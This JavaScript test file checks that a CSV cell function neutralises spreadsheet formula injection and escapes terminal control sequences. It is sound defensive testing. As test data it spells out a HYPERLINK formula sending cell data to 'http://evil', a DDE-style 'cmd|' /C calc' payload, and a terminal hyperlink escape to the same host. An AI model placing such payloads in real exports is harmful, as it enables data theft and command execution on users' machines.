import { describe, expect, test } from 'vitest';
import { csvCell, neutraliseFormula } from './csv.js';

describe('csvCell: formula neutralisation (OWASP "CSV Injection")', () => {
  test.each([
    ['=', '=HYPERLINK("http://evil/?"&A1)', `"'=HYPERLINK(""http://evil/?""&A1)"`],
    ['+', '+1+cmd', "'+1+cmd"],
    ['-', "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['@', '@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['tab (0x09)', '\t=1+1', "'\t=1+1"],
    ['carriage return (0x0D)', '\r=1+1', `"'\r=1+1"`],
  ])('a cell beginning with %s gets a leading quote, then RFC 4180 quoting', (_, text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  test.each([
    ['-5', '-5'],
    ['+3', '+3'],
    ['-0.25', '-0.25'],
    ['-1e-7', '-1e-7'],
  ])('a plain number (%s) is left alone: a spreadsheet reads it as that number, which calls nothing', (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  test.each([
    ['-5-5', "'-5-5"],
    ['-5,A1', `"'-5,A1"`],
    ['- item', "'- item"],
    ['-', "'-"],
  ])('%s is not a plain number, so it is neutralised', (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  test('text not beginning with a trigger is unchanged; quoting per RFC 4180 as before', () => {
    expect(csvCell('Fix login')).toBe('Fix login');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell('a, b')).toBe('"a, b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell(' padded')).toBe('" padded"');
    expect(csvCell('')).toBe('');
  });

  test('a comma cannot start a new cell with a trigger: the whole value stays one quoted cell', () => {
    expect(csvCell('ok,=1+1')).toBe('"ok,=1+1"');
  });

  test('raw: the text exactly, still quoted per RFC 4180', () => {
    expect(csvCell('=1+1', { raw: true })).toBe('=1+1');
    expect(csvCell('@a, b', { raw: true })).toBe('"@a, b"');
    expect(csvCell('\r=1', { raw: true })).toBe('"\r=1"');
  });

  test('neutraliseFormula alone adds only the quote', () => {
    expect(neutraliseFormula('=1')).toBe("'=1");
    expect(neutraliseFormula('1=1')).toBe('1=1');
  });
});

describe('csvCell on a terminal', () => {
  const hostile = '\u001b]8;;http://evil\u0007click\u001b]8;;\u0007 \u001b[2J';
  test('control characters are shown as escapes, as in tables', () => {
    expect(csvCell(hostile, { terminal: true })).toBe('\\x1b]8;;http://evil\\x07click\\x1b]8;;\\x07 \\x1b[2J');
    expect(csvCell(hostile, { terminal: true, raw: true })).toBe('\\x1b]8;;http://evil\\x07click\\x1b]8;;\\x07 \\x1b[2J');
  });
  test('the formula check sees the original first character; the CR then shows as an escape', () => {
    expect(csvCell('\r=1', { terminal: true })).toBe("'\\x0d=1");
  });
  test('piped (not a terminal): exact bytes, escapes included', () => {
    expect(csvCell(hostile)).toBe(hostile);
  });
});
